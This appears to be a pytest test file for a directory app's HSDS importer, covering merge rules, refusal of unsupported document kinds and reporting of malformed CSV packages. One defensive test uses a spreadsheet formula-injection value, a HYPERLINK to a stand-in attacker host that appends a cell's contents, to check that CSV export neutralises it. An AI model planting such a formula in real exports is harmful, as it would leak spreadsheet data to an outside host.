"""HSDS import: nothing erased by a summary, every kind of document named, loose ends reported.

The documents are written here, in the shapes of HSDS 3.0's own kinds (a full service, a list
page, a taxonomy list, a service at a location); they run with or without the official schemas.
"""

import copy
import csv
import json
import re

import pytest
from django.core.management import CommandError, call_command

from directory.models import Organization
from hsds import exporting, importing, tabular
from hsds.models import ExternalRecord
from tests.factories import make_category, make_org
from tests.hsds_helpers import full_service, page, service_doc, summary, write

TAXONOMY = {
    "id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f50",
    "name": "Open Eligibility",
    "description": "A taxonomy of human services.",
    "uri": "https://example.org/taxonomies/open-eligibility",
    "version": "2.0",
}
TERM = {
    "id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f51",
    "code": "housing",
    "name": "Housing",
    "description": "A place to live.",
    "taxonomy_id": TAXONOMY["id"],
}


def entry():
    return Organization.objects.get(hsds_record__isnull=False)


def import_(tmp_path, data, name="doc.json"):
    return importing.import_hsds(write(tmp_path, data, name))


# --- Finding 7: a summary never overwrites fuller data. ---


def kept_fields(org):
    return {
        name: getattr(org, name)
        for name in (
            "address",
            "city",
            "state",
            "postal_code",
            "phone",
            "accessibility",
            "languages",
            "latitude",
            "longitude",
            "meeting_schedule",
            "signup_url",
            "summary",
        )
    }


def test_a_list_after_the_full_record_erases_nothing(seed_causes, tmp_path):
    assert import_(tmp_path, full_service()).count("created") == 1
    before = kept_fields(entry())
    assert before["phone"] == "(510) 555-0142" and before["languages"] == "en,es"
    assert before["accessibility"] == "Step-free entrance." and before["city"] == "Oakland"
    # The same service as the /services list gives it: no phones, places, languages, causes.
    report = import_(tmp_path, page([summary(full_service())]), "service_list.json")
    assert [o.action for o in report.outcomes] == ["unchanged"], [str(o) for o in report.outcomes]
    assert kept_fields(entry()) == before
    assert [c.slug for c in entry().causes.all()] == ["tenants"]


def test_a_newer_summary_changes_only_what_it_says(seed_causes, tmp_path):
    import_(tmp_path, full_service())
    before = kept_fields(entry())
    newer = summary(
        full_service(
            description="Help for renters, now on Saturdays.", last_modified="2025-04-01T00:00:00Z"
        )
    )
    report = import_(tmp_path, page([newer]))
    assert [o.action for o in report.outcomes] == ["updated"]
    after = kept_fields(entry())
    assert after.pop("summary") == "Help for renters, now on Saturdays."
    before.pop("summary")
    assert after == before


def test_an_older_document_changes_nothing(seed_causes, tmp_path):
    import_(tmp_path, full_service(last_modified="2025-06-01T00:00:00Z"))
    older = full_service(last_modified="2024-01-01T00:00:00Z", name="Old Name", description="Old")
    report = import_(tmp_path, older)
    outcome = report.outcomes[0]
    assert outcome.action == "unchanged" and "before the version imported already" in outcome.reason
    assert entry().summary == "Help for renters."


def test_a_curators_edit_survives_until_the_source_changes_that_field(seed_causes, tmp_path):
    import_(tmp_path, full_service())
    Organization.objects.filter(pk=entry().pk).update(phone="(510) 555-9999", first_step="Write.")
    changed = full_service(description="New words.", last_modified="2025-05-01T00:00:00Z")
    assert import_(tmp_path, changed).outcomes[0].action == "updated"
    org = entry()
    assert (org.summary, org.phone, org.first_step) == ("New words.", "(510) 555-9999", "Write.")
    phones = [{"id": "5d1e4c59-8c1b-4b8e-9c6f-1a2b3c4d5e01", "number": "(510) 555-0000"}]
    newer = full_service(phones=phones, last_modified="2025-06-01T00:00:00Z")
    import_(tmp_path, newer)
    assert entry().phone == "(510) 555-0000" and entry().first_step == "Write."


def test_an_explicit_empty_value_is_not_unknown(seed_causes, tmp_path):
    import_(tmp_path, full_service())
    emptied = full_service(phones=[], languages=[], last_modified="2025-05-01T00:00:00Z")
    import_(tmp_path, emptied)
    assert (entry().phone, entry().languages) == ("", "en")  # "en" when none is said


def test_a_package_without_a_table_leaves_its_fields_alone(db, tmp_path, without_schemas):
    cause = make_category()
    make_org(causes=[cause], slug="kept", phone="(510) 555-0101", accessibility="Ramp.")
    exporting.export_package(tmp_path)
    Organization.objects.all().delete()
    importing.import_hsds(tmp_path)
    (tmp_path / "phones.csv").unlink()  # a package that does not carry phones
    (tmp_path / "accessibility.csv").write_text("id,location_id,description,details,url\n")
    services = (tmp_path / "services.csv").read_text()
    (tmp_path / "services.csv").write_text(services.replace("A fictional group", "Fictional"))
    report = importing.import_hsds(tmp_path)
    assert [o.action for o in report.outcomes] == ["updated"], [str(o) for o in report.outcomes]
    org = Organization.objects.get()
    assert org.summary.startswith("Fictional")
    assert org.phone == "(510) 555-0101"  # no phones table: unknown
    assert org.accessibility == ""  # an empty accessibility table: known to be none


def test_a_truncated_package_refuses_the_cut_row_and_blanks_nothing(db, tmp_path, without_schemas):
    cause = make_category()
    for n in range(3):
        make_org(causes=[cause], slug=f"group-cut-{n}", phone=f"(510) 555-010{n}")
    exporting.export_package(tmp_path)
    Organization.objects.all().delete()
    importing.import_hsds(tmp_path)
    before = {org.slug: kept_fields(org) for org in Organization.objects.all()}
    for name in ("locations.csv", "phones.csv", "addresses.csv", "services.csv"):
        path = tmp_path / name
        if path.read_text().count("\n") > 1:
            path.write_bytes(path.read_bytes()[:-60])
    report = importing.import_hsds(tmp_path)
    cut = [o for o in report.outcomes if o.action == "invalid"]
    assert cut and all("cut short" in o.reason or "cells" in o.reason for o in cut), [
        str(o) for o in report.outcomes
    ]
    assert {org.slug: kept_fields(org) for org in Organization.objects.all()} == before


def test_formula_cells_are_neutralised_in_the_export_and_read_back(db, tmp_path, without_schemas):
    cause = make_category()
    formulas = {
        "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "summary": "+1+1",
        "first_step": "@SUM(A1:A9)",
        "phone": "-2+3",
        "meeting_schedule": "\tTuesdays",
    }
    make_org(causes=[cause], slug="formula-group", **formulas)
    make_org(causes=[cause], slug="plain-group", latitude=-33.5, longitude=-70.6)
    exporting.export_package(tmp_path)
    cells = [
        cell
        for path in tmp_path.glob("*.csv")
        for row in csv.reader(path.open(newline=""))
        for cell in row
    ]
    assert [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")] == []
    assert [c for c in cells if c[:1] == "-" and not re.fullmatch(r"-\d+(\.\d+)?", c)] == []
    assert "'" + formulas["name"] in cells and "-70.6" in cells  # plain numbers stay numbers
    Organization.objects.all().delete()
    report = importing.import_hsds(tmp_path)
    assert report.count("created") == 2, [str(o) for o in report.outcomes]
    back = Organization.objects.get(slug="formula-group")
    # Cells are stripped of surrounding spaces on import, the tab included.
    assert {name: getattr(back, name) for name in formulas} == {
        **formulas,
        "meeting_schedule": "Tuesdays",
    }


# --- Finding 8: each kind of document is told apart and named. ---


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (page([TAXONOMY]), "is an HSDS API page of one taxonomy: nothing to import"),
        (TAXONOMY, "is a taxonomy: nothing to import"),
        ([TAXONOMY, {**TAXONOMY, "id": TERM["id"]}], "is a list of 2 taxonomies"),
        (page([TERM]), "is an HSDS API page of one taxonomy term"),
        (
            {"id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f52", "location_type": "physical"},
            "is a location: nothing to import",
        ),
        ({"organizations.csv": [], "services.csv": []}, "tabular data set written as JSON"),
        ([], "holds an empty list"),
    ],
)
def test_a_file_of_a_kind_the_directory_does_not_import_says_what_it_is(
    seed_causes, tmp_path, data, words
):
    path = write(tmp_path, data)
    with pytest.raises(importing.ImportFailed, match=re.escape(words)) as refused:
        importing.import_hsds(path)
    assert "reads organizations, services and services at locations" in str(refused.value) or (
        "empty" in words
    )
    assert not Organization.objects.filter(hsds_record__isnull=False).exists()
    with pytest.raises(CommandError, match=re.escape(words)):
        call_command("import_hsds", str(path))


def test_in_a_mixed_list_each_refused_item_says_what_it_looked_like(seed_causes, tmp_path):
    report = import_(tmp_path, [TAXONOMY, service_doc(), 42])
    actions = {o.record.split()[0]: o for o in report.outcomes}
    assert report.count("created") == 1
    assert actions["taxonomy"].reason.startswith(
        "this is a taxonomy 'Open Eligibility' (it has version), not an organization"
    )
    assert actions["item"].reason == "a int 42, not an HSDS object"


def test_a_service_at_a_location_becomes_an_entry(seed_causes, tmp_path):
    service = full_service()
    link = service.pop("service_at_locations")[0]
    document = {**link, "service": service}  # /service_at_locations/{id}, fully nested
    report = import_(tmp_path, document, "service_at_location.json")
    assert report.count("created") == 1, [str(o) for o in report.outcomes]
    org = entry()
    assert (org.name, org.city, org.phone) == ("Renters United", "Oakland", "(510) 555-0142")
    assert org.latitude == 37.8


def test_a_service_at_a_location_without_its_service_is_refused_by_name(seed_causes, tmp_path):
    bare = {
        "id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f53",
        "service_id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f54",
        "location_id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f55",
    }
    report = import_(tmp_path, page([bare]))
    assert [o.action for o in report.outcomes] == ["invalid"]
    assert "a service at a location that does not carry its service" in report.outcomes[0].reason
    assert "'name'" not in report.outcomes[0].reason


@pytest.mark.parametrize("levels", [50, 100_000])
def test_deeply_nested_json_is_refused_with_a_clear_message(seed_causes, tmp_path, levels):
    path = write(tmp_path, "[" * levels + "]" * levels)
    with pytest.raises(CommandError, match="nests more than 40 levels deep"):
        call_command("import_hsds", str(path))


def test_deep_nesting_inside_a_service_is_refused_too(seed_causes, tmp_path):
    deep = inner = {}
    for _ in range(60):
        inner["next"] = {}
        inner = inner["next"]
    with pytest.raises(importing.ImportFailed, match="nests more than 40 levels"):
        import_(tmp_path, service_doc(extension=deep))


def test_not_a_number_is_not_json(seed_causes, tmp_path):
    text = json.dumps(service_doc()).replace("37.8", "NaN")
    with pytest.raises(importing.ImportFailed, match="NaN is not a JSON value"):
        import_(tmp_path, text)


# --- Finding 8: loose ends and oddities are reported. ---


def test_a_phone_number_in_quotes_is_cleaned_and_reported(seed_causes, tmp_path):
    quoted = [{"id": "5d1e4c59-8c1b-4b8e-9c6f-1a2b3c4d5e01", "number": '"+1 510 555 0142"'}]
    report = import_(tmp_path, full_service(phones=quoted))
    outcome = report.outcomes[0]
    assert outcome.action == "created"
    assert "phone number '\"+1 510 555 0142\"' had quotes around it; taken off" in str(outcome)
    assert entry().phone == "+1 510 555 0142"
    assert "quotes" in entry().hsds_record.problems


def test_a_phone_number_with_no_digits_is_left_empty_and_pending(seed_causes, tmp_path):
    odd = [{"id": "5d1e4c59-8c1b-4b8e-9c6f-1a2b3c4d5e01", "number": "call us"}]
    report = import_(tmp_path, full_service(phones=odd))
    assert "phone number 'call us' has no digits (left empty)" in report.outcomes[0].problems
    assert (entry().phone, entry().status) == ("", "pending")


def test_dangling_links_in_a_document_are_warnings(seed_causes, tmp_path):
    doc = service_doc(organization_id="3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f56")
    doc["service_at_locations"].append(
        {"id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f57", "location_id": TERM["id"]}
    )
    doc["attributes"].append(
        {"id": "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f58", "taxonomy_term_id": TERM["id"]}
    )
    report = import_(tmp_path, doc)
    warnings = [o.reason for o in report.outcomes if o.action == "warning"]
    assert len(warnings) == 3, warnings
    assert any("is not its organization" in w for w in warnings)
    assert any(f"location {TERM['id']}" in w and "is not in the document" in w for w in warnings)
    assert any("without giving it; the attribute is ignored" in w for w in warnings)
    assert report.count("created") == 1 and "3 warnings" in report.summary()


def test_dangling_links_in_a_package_are_reported(db, tmp_path, without_schemas):
    cause = make_category()
    for n in range(2):
        make_org(causes=[cause], slug=f"linked-{n}")
    exporting.export_package(tmp_path)
    Organization.objects.all().delete()
    tables, _ = tabular.read(tmp_path)
    lost_org = tables["service"][0]["organization_id"]
    lost_term = tables["attribute"][0]["taxonomy_term_id"]
    orphan = "3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f59"
    organizations = (tmp_path / "organizations.csv").read_text()
    (tmp_path / "organizations.csv").write_text(organizations.replace(lost_org, orphan))
    terms = (tmp_path / "taxonomy_terms.csv").read_text()
    (tmp_path / "taxonomy_terms.csv").write_text(terms.replace(lost_term, orphan))
    report = importing.import_hsds(tmp_path)
    text = [str(o) for o in report.outcomes]
    refused = [o for o in report.outcomes if o.action == "invalid"]
    assert len(refused) == 1, text
    assert f"organization_id {lost_org} matches no row of organizations.csv" in refused[0].reason
    assert "the service is not imported" in refused[0].reason
    warnings = [o.reason for o in report.outcomes if o.action == "warning"]
    assert any(
        f"taxonomy_term_id {lost_term} matches no row of taxonomy_terms.csv" in w for w in warnings
    )
    assert any(f"organization_id {lost_org} matches no row" in w for w in warnings)  # its location
    # The orphaned organization still becomes an entry (with no service), the other one too.
    assert report.count("created") == 2


def test_a_package_row_with_too_many_cells_is_refused(db, tmp_path, without_schemas):
    make_org(causes=[make_category()], slug="wide")
    exporting.export_package(tmp_path)
    Organization.objects.all().delete()
    path = tmp_path / "organizations.csv"
    header, row = path.read_text().splitlines()
    path.write_text(f"{header}\n{row},extra\n")
    report = importing.import_hsds(tmp_path)
    assert [o.action for o in report.outcomes][:1] == ["invalid"]
    assert "organizations.csv line 2: expected 13 cells, found 14" in report.outcomes[0].reason


def test_the_same_id_twice_in_a_table_is_reported(db, tmp_path, without_schemas):
    make_org(causes=[make_category()], slug="twice")
    exporting.export_package(tmp_path)
    Organization.objects.all().delete()
    path = tmp_path / "phones.csv"
    make_org_phone = path.read_text()
    assert make_org_phone.count("\n") == 1  # no phone: add the same row twice
    lines = (tmp_path / "services.csv").read_text().splitlines()
    service_id = lines[1].split(",")[0]
    row = f"5d1e4c59-8c1b-4b8e-9c6f-1a2b3c4d5e09,,{service_id},,,,(510) 555-0100,,voice,"
    path.write_text(make_org_phone + row + "\n" + row.replace("0100", "0199") + "\n")
    report = importing.import_hsds(tmp_path)
    refused = [o for o in report.outcomes if o.action == "invalid"]
    assert len(refused) == 1 and "the same id as line 2" in refused[0].reason
    assert Organization.objects.get().phone == "(510) 555-0100"


def test_an_hsds_import_without_the_official_files_still_checks_every_record(
    seed_causes, tmp_path, without_schemas
):
    bad = copy.deepcopy(service_doc())
    bad["service_at_locations"][0]["location"]["location_type"] = "underwater"
    bad["organization"]["website"] = "example.org"
    report = import_(tmp_path, [bad, service_doc(id="3f0d2a4e-1b7c-4e55-8a0e-6c1d2b3a4f60")])
    invalid = [o for o in report.outcomes if o.action == "invalid"]
    assert len(invalid) == 1
    assert (
        "location_type: 'underwater' is not one of physical, postal, virtual" in invalid[0].reason
    )
    assert "organization/website: 'example.org' is not an absolute URI" in invalid[0].reason
    assert report.count("created") == 1 and ExternalRecord.objects.count() == 1
